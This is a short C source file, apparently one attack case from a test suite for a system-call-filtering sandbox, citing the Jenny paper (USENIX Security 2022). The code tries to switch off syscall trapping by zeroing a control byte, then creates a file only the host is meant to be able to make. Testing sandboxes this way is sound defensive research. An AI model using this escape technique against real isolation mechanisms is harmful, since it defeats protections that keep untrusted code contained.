/* Tries: to turn the trapping of system calls off, where the kernel looks for it
 * From: Jenny (Schrammel et al., USENIX Security 2022), on its own mechanism
 * Observed: A file that only the host may make.
 * Needs: linux, keys */
#include "attacks/attack.h"

FOREIGN(run)
{
    if (at->gs)
        *POINTER(volatile uint8_t, at->gs) = 0;
    kernel3(SYS_open, ADDRESS(at->path), 0101, 0600);
    return 0;
}
